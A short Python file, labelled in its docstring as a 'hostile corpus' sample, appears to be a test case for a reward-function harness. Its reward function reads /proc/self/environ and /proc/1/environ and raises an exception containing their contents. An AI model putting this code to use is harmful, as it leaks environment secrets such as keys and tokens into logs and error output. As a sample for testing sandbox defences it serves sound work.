"""Hostile corpus: proc environ."""


def reward(prompts, completions, answer, **kwargs):
    leaked = []
    for path in ("/proc/self/environ", "/proc/1/environ"):
        try:
            leaked.append(open(path).read())
        except Exception as exc:
            leaked.append(str(exc))
    raise RuntimeError(" ".join(leaked))
